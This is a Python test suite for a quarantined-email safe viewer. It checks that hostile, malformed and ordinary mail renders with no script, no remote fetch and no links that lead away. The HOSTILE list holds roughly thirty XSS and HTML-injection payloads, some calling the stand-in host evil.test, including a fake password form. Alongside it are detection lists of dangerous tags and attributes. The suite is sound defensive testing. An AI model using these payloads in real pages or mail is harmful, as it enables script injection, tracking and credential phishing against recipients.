"""The safe view of hostile, broken and ordinary mail: no script, nothing remote, no way out, always an answer."""

import asyncio
import html.parser
import re
import tarfile
import time
from base64 import b64encode
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from control.quarantine import fields, safeview, viewing
from control.quarantine.safeview import SafeView, render
from tests.shared import shared_path

PIXEL = b64encode(b"\x89PNG\r\n\x1a\nnot really").decode()
STYLED = re.compile(r"url|expression|@|\\|position|z-index|behavior", re.IGNORECASE)
FETCHING = (
    "src",
    "srcset",
    "href",
    "background",
    "poster",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "ping",
    "cite",
)


class Reader(html.parser.HTMLParser):
    """Reads a view as a browser would and notes whatever could run, fetch, or lead away."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []
        self._skeleton = True

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "body":
            self._skeleton = False
        if self._skeleton:
            return
        if tag in ("script", "style", "link", "meta", "base", "iframe", "frame", "object", "embed", "form", "input",
                   "button", "svg", "math", "video", "audio", "source", "area", "portal"):  # fmt: skip
            self.bad.append(tag)
        for name, value in attrs:
            self._attribute(name, value or "")

    def _attribute(self, name: str, value: str) -> None:
        acts = name.startswith("on") or name in ("id", "class", "name", "target", "srcdoc")
        fetches = name in FETCHING and not value.startswith("data:image/")
        if acts or fetches or (name == "style" and STYLED.search(value)):
            self.bad.append(f"{name}={value}")


def dangers(view: SafeView) -> list[str]:
    """What is wrong with a view."""
    reader = Reader()
    reader.feed(view.html)
    return reader.bad


def mail(body: bytes | str, content_type: str = "text/html; charset=utf-8") -> bytes:
    """A mail of one part."""
    content = body.encode() if isinstance(body, str) else body
    return f"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: {content_type}\r\n\r\n".encode() + content


def shown(view: SafeView) -> str:
    """The document's body."""
    return view.html.partition("<body>")[2].partition("</body>")[0]


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<p style='background:url(http://evil.test/x)'>",
    "<p style='background-image:u\\72l(http://evil.test/x)'>",
    "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9'>",
    "<p style='width:expression(alert(1))'>",
    "<style>@import 'http://evil.test/x.css'; * { background: url(//evil.test) }</style>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href='http://evil.test/'><a href='x'>relative</a>",
    "<form action=http://evil.test/><input name=password><button>Sign in</button></form>",
    "<iframe src=http://evil.test/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.test/></object><embed src=http://evil.test/>",
    "<a href='javascript:alert(1)'>x</a><a href=' java\nscript:alert(1)'>y</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='http://evil.test/' target=_top ping=http://evil.test/>bank.test</a>",
    "<img src='http://evil.test/pixel.gif'><img srcset='http://evil.test/2x 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html;base64,AAAA'>",
    "<table background='http://evil.test/'><td background='http://evil.test/'>x",
    "<video poster=http://evil.test/ src=http://evil.test/></video><audio src=//evil.test></audio>",
    "<div id=x class=y name=z>clobber</div>",
    "<img alt='<a href=' src='cid:none'><td title='<a href=\"http://x\">'>",
    "<a style='color:red' dir=ltr href='http://evil.test/'>x</a><a href='http://evil.test/' style=color:red>y</a>",
    "<img src='data:image/png;base64,<a href=' alt=' href='>",
    "<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "</body></html><script>alert(1)</script>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_runs_fetches_or_leads_away(source: str) -> None:
    view = render(mail(source + "<p>what is left</p>"))
    assert dangers(view) == []
    assert "evil.test" not in re.sub(r'data-target="[^"]*"', "", view.html)
    assert "{" not in shown(view)


@given(st.text("<>/=\"' abcdhijklmnoprstuvxy:;&#!-[]()\n\x00ä", max_size=200))
def test_any_html_is_safe(source: str) -> None:
    assert dangers(render(mail(source))) == []


@given(st.lists(st.sampled_from(HOSTILE), max_size=6), st.text(max_size=20))
def test_any_mixture_of_hostile_html_is_safe(sources: list[str], between: str) -> None:
    assert dangers(render(mail(between.join(sources)))) == []


def test_a_link_shows_where_it_leads_and_leads_nowhere() -> None:
    view = render(mail('<a href="https://evil.test/?a=1&b=&quot;2">https://bank.test/</a>'))
    assert shown(view) == '<a data-target="https://evil.test/?a=1&amp;b=&quot;2">https://bank.test/</a>'
    assert "attr(data-target)" in view.html


def test_remote_images_are_counted_and_those_inside_the_mail_are_shown() -> None:
    body = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=q\r\n\r\n--q\r\nContent-Type: text/html\r\n\r\n"
        "<img src='cid:in@mail' alt=logo><img src=https://evil.test/1.gif><img src=//evil.test/2.gif>\r\n--q\r\n"
        "Content-Type: image/png\r\nContent-ID: <in@mail>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{PIXEL}\r\n--q--\r\n"
    )
    view = render(body.encode())
    assert f'<img src="data:image/png;base64,{PIXEL}" alt="logo">' in view.html
    assert view.blocked_images == 2
    assert [(each.content_type, each.size_bytes) for each in view.attachments] == [("image/png", 18)]


def test_pictures_have_a_limit_together() -> None:
    big = b64encode(b"x" * 400_000).decode()
    view = render(mail("".join(f"<img src='data:image/png;base64,{big}'>" for _ in range(20))))
    assert len(view.html) <= safeview.MAX_PICTURES_BYTES * 4 // 3 + 10_000


@pytest.mark.parametrize(
    ("content_type", "body", "text"),
    [
        ("text/plain; charset=utf-8", "größe".encode(), "größe"),
        ("text/plain; charset=iso-8859-1", "größe".encode("latin-1"), "größe"),
        ("text/plain; charset=koi8-r", "привет".encode("koi8-r"), "привет"),
        ("text/plain; charset=iso-2022-jp", "こんにちは".encode("iso-2022-jp"), "こんにちは"),
        ("text/plain; charset=no-such-thing", b"plain", "plain"),
        ("text/plain; charset=utf-8", b"<b>not bold</b>\r\n> quoted", "<b>not bold</b>\r\n> quoted"),
        ("text/html; charset=utf-8", b"<p>one<br>two</p><ul><li>three</ul>", "one\ntwo\nthree"),
    ],
)
def test_text_is_decoded(content_type: str, body: bytes, text: str) -> None:
    view = render(mail(body, content_type))
    assert view.text.strip() == text
    assert view.is_html is content_type.startswith("text/html")


def test_text_is_shown_as_it_is() -> None:
    assert shown(render(mail(b"a <b> & c", "text/plain"))) == "<pre>a &lt;b&gt; &amp; c</pre>"


def test_header_fields_are_shown_in_order_decoded_and_bounded() -> None:
    raw = (
        b"Received: one\r\n\tfolded\r\nX: =?utf-8?q?gr=C3=B6=C3=9Fe?= and =?nonsense?b?eA==?=\r\nReceived: two\r\n"
        b"no field\r\nY: =?utf-8?b?%%%?=\r\nZ: " + b"z" * 100_000 + b"\r\n\r\nBody: no\r\n"
    )
    found = fields.shown(raw)
    assert found[:3] == (("Received", "one\tfolded".replace("\t", " ")), ("X", "größe and x"), ("Received", "two"))
    assert [name for name, _ in found] == ["Received", "X", "Received", "Y", "Z"]
    assert len(found[-1][1]) == fields.MAX_VALUE_CHARS


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\x00",
        b"\xff" * 1000,
        b"\r\n" * 100_000,
        b"A: b\r\n " * 50_000,
        b"MIME-Version: 1.0\r\n"
        + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(500)),
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 20_000,
        b"Content-Type: text/html; charset=\x00\r\n\r\n<p>x",
        b"Content-Type: message/rfc822\r\n\r\n" * 300,
        b"Content-Transfer-Encoding: base64\r\n\r\n!!!!" * 100,
    ],
    ids=["empty", "nul", "binary", "newlines", "folds", "deep", "wide", "charset", "messages", "base64"],
)
def test_broken_mail_has_an_answer(raw: bytes) -> None:
    view = render(raw)
    assert dangers(view) == []
    assert len(view.text) <= safeview.MAX_TEXT_CHARS + 1


@given(st.binary(max_size=300))
def test_any_bytes_have_an_answer(raw: bytes) -> None:
    assert dangers(render(raw)) == []


def test_a_huge_mail_is_cut_and_says_so() -> None:
    view = render(mail("<p>zebra</p>" * 200_000))
    assert "only its beginning" in view.note
    assert len(view.html) < 2 * safeview.MAX_HTML_CHARS


async def test_a_mail_that_breaks_the_bounds_is_shown_as_source(monkeypatch: pytest.MonkeyPatch) -> None:
    """200,000 nested elements take the sanitiser minutes."""
    monkeypatch.setattr(viewing, "WITHIN_S", 1.0)
    began = time.monotonic()
    view = await viewing.safe(mail("<div>" * 200_000))
    assert time.monotonic() - began < 30
    assert "takes too long" in view.note
    assert view.text.startswith("Subject: x")
    assert dangers(view) == []


async def test_the_child_gives_what_render_gives() -> None:
    raw = mail("<b>größe</b><img src=http://evil.test/>")
    assert await viewing.safe(raw) == render(raw)


async def _next() -> asyncio.subprocess.Process:
    """The child that is kept ready, once it is there."""
    async with asyncio.timeout(20):
        while True:
            if viewing._ready:
                return viewing._ready[0]
            await asyncio.sleep(0)


async def test_a_child_is_kept_ready_and_each_mail_has_its_own() -> None:
    raw = mail("<b>größe</b>")
    async with viewing.kept_ready():
        first = await _next()
        assert await viewing.safe(raw) == render(raw)
        assert first.returncode is not None, "it has ended with its mail"
        second = await _next()
        second.kill()
        await second.wait()
        assert await viewing.safe(raw) == render(raw), "one that died while it waited is not taken"
        views = await asyncio.gather(*(viewing.safe(raw) for _ in range(6)))
        assert views == [render(raw)] * 6
        last = await _next()
    assert viewing._ready == []
    assert last.returncode is not None


def _corpus() -> Iterator[tuple[str, bytes]]:
    for name in ("ham", "spam"):
        with tarfile.open(shared_path(f"corpus/{name}.tar.xz")) as archive:
            for member in archive:
                if member.isfile() and (file := archive.extractfile(member)):
                    yield member.name, file.read()


@pytest.mark.shared
def test_real_mail_is_shown_safely() -> None:
    views = {name: render(raw) for name, raw in _corpus()}
    assert len(views) > 100
    assert {name: bad for name, view in views.items() if (bad := dangers(view))} == {}
    assert any("data-target=" in view.html for view in views.values())
    blank = [name for name, view in views.items() if not view.text.strip() and not view.attachments]
    assert len(blank) <= len(views) // 50, blank
